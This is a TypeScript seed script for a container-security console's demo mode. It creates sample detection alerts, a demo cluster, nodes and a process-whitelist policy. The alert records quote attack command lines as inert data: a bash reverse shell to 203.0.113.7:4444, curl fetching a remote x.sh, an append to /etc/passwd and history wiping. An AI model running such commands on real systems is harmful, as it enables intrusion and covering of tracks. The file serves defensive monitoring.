// Demo data for `vigil server --demo` (the README's `npm run demo`), so that
// every page of the console has something real to show: alert groups of
// several types (runtime, container, cluster), a process-whitelist policy
// applied to the demo image with processes node-a's agent learned, a protected cluster with agent nodes, and the
// audit records of all of it. Written through the services the API uses
// (validation, alert grouping, audit chain); run once per data directory.
import type { ServerContext } from './context.js';
import type { Alert } from '../../core/alerts/types.js';
import { SYSTEM_ACTOR } from '../store/audit-log.js';
import type { Caller } from '../services/common.js';
import * as alerts from '../services/alerts.js';
import * as clusters from '../services/clusters.js';
import { storeLearnedReport } from '../services/learned.js';
import * as policies from '../services/policies.js';

const CONTAINER = 'c0ffee'.repeat(10) + 'c0ff';

export function demoAlerts(now: Date, image: string): Alert[] {
  const at = (minutesAgo: number) => new Date(now.getTime() - minutesAgo * 60_000).toISOString();
  const ctr = { id: CONTAINER, name: 'shop-web', image, pod: 'shop-web-7d9f', namespace: 'shop' };
  const out: Alert[] = [];
  // Spread over the last days so the overview's chart has a shape.
  for (let i = 0; i < 6; i++) {
    out.push({
      id: `demo-rs-${i}`,
      type: 'system/reverse-shell',
      severity: 'critical',
      time: at(30 + i * 600),
      host: 'node-a',
      message: 'Reverse shell: bash with stdin/stdout on a TCP socket to 203.0.113.7:4444',
      rule: 'Reverse shell',
      process: {
        pid: 4242 + i,
        ppid: 4200,
        name: 'bash',
        exepath: '/bin/bash',
        cmdline: 'bash -i',
        uid: 33,
        user: 'www-data',
        parents: [
          { pid: 4200, name: 'php-fpm', exepath: '/usr/sbin/php-fpm' },
          { pid: 1, name: 'tini' },
        ],
      },
      container: ctr,
      action: { kind: 'alert' },
      tags: ['mitre_execution', 'T1059'],
    });
  }
  for (let i = 0; i < 4; i++) {
    out.push({
      id: `demo-ap-${i}`,
      type: 'container/abnormal-process',
      severity: 'medium',
      time: at(90 + i * 1500),
      host: 'node-b',
      message: 'Process /usr/bin/curl is not in the process whitelist of the image',
      rule: 'Process whitelist',
      process: { pid: 5100 + i, name: 'curl', exepath: '/usr/bin/curl', cmdline: 'curl -s http://198.51.100.9/x.sh' },
      container: { ...ctr, id: 'b'.repeat(64), name: 'shop-api' },
    });
  }
  out.push({
    id: 'demo-sf-1',
    type: 'container/sensitive-file-access',
    severity: 'high',
    time: at(240),
    host: 'node-a',
    message: 'Write to protected path /etc/passwd',
    rule: 'File protection',
    process: { pid: 6001, name: 'sh', cmdline: 'sh -c echo x >> /etc/passwd' },
    container: ctr,
  });
  out.push({
    id: 'demo-hc-1',
    type: 'system/high-risk-command',
    severity: 'high',
    time: at(60 * 26),
    host: 'node-b',
    message: 'History wiping: history -c',
    rule: 'High-risk command',
    process: { pid: 7001, name: 'bash', cmdline: 'bash -c history -c' },
  });
  out.push({
    id: 'demo-rb-1',
    type: 'cluster/role-binding',
    severity: 'high',
    time: at(60 * 50),
    host: 'apiserver',
    message: 'ClusterRoleBinding to cluster-admin created for system:serviceaccount:shop:default',
    rule: 'Cluster-admin binding',
    k8s: {
      auditID: '6f1c1b1e-0000-4000-8000-000000000001',
      user: 'dev@example.com',
      verb: 'create',
      resource: 'clusterrolebindings',
      name: 'shop-admin',
      sourceIPs: ['10.0.0.12'],
      userAgent: 'kubectl/v1.30.0',
    },
  });
  out.push({
    id: 'demo-bf-1',
    type: 'user/brute-force',
    severity: 'medium',
    time: at(60 * 75),
    host: 'node-c',
    message: '25 failed SSH logins for root from 192.0.2.50 within 60 s',
    rule: 'SSH brute force',
  });
  return out;
}

/** Seeds the demo project once (no-op when its demo cluster exists), through the services the API uses. */
export async function seedDemoData(ctx: ServerContext, projectId: string, imageId: string, imageRef: string): Promise<boolean> {
  const existing = await clusters.listClusters(ctx, projectId, { limit: 500 });
  if (existing.items.some((c) => c.name === 'demo-cluster')) return false;
  const system = (event: string): Caller => ({ actor: SYSTEM_ACTOR, event });
  const now = ctx.clock();
  await alerts.ingestAlerts(ctx, system('ingestAlerts'), projectId, demoAlerts(now, imageRef));
  const { id: clusterId } = await clusters.addCluster(ctx, system('addCluster'), projectId, { name: 'demo-cluster' });
  await clusters.setClusterProtection(ctx, system('openClusterProtect'), projectId, clusterId, true);
  const nodeIds = new Map<string, string>();
  for (const [hostname, status, secondsAgo] of [
    ['node-a', 'online', 20],
    ['node-b', 'online', 20],
    ['node-c', 'offline', 3 * 3600],
  ] as const) {
    // last seen some time ago: the node's report as it was at that time
    const then = { ...ctx, clock: () => new Date(now.getTime() - secondsAgo * 1000) };
    const node = await clusters.reportNode(then, system('reportNode'), projectId, hostname, { status, version: '0.1.0', clusterId });
    nodeIds.set(hostname, node.id);
  }
  const { id: policyId } = await policies.addPolicy(ctx, system('addPolicy'), projectId, {
    name: 'demo-app-processes',
    kind: 'process-whitelist',
    mode: 'alert',
    document: { processWhitelist: { executables: ['/usr/local/bin/node', '/bin/sh'], learn: '10m' } },
  });
  await policies.applyPolicy(ctx, system('imageApplyPolicy'), projectId, policyId, [imageId]);
  // What node-a's agent learned in the policy's learn window, for the Policies page to decide.
  const seen = (minutesAgo: number) => new Date(now.getTime() - minutesAgo * 60_000).toISOString();
  await storeLearnedReport(ctx, { id: nodeIds.get('node-a')!, projectId, clusterId, hostname: 'node-a' }, [
    { policy: 'demo-app-processes', executable: '/usr/bin/npm', image: imageRef, firstSeen: seen(9), count: 3 },
    { policy: 'demo-app-processes', executable: '/usr/bin/curl', image: imageRef, firstSeen: seen(7), count: 12 },
    { policy: 'demo-app-processes', executable: '/usr/bin/wget', image: imageRef, firstSeen: seen(2), count: 1 },
  ]);
  return true;
}
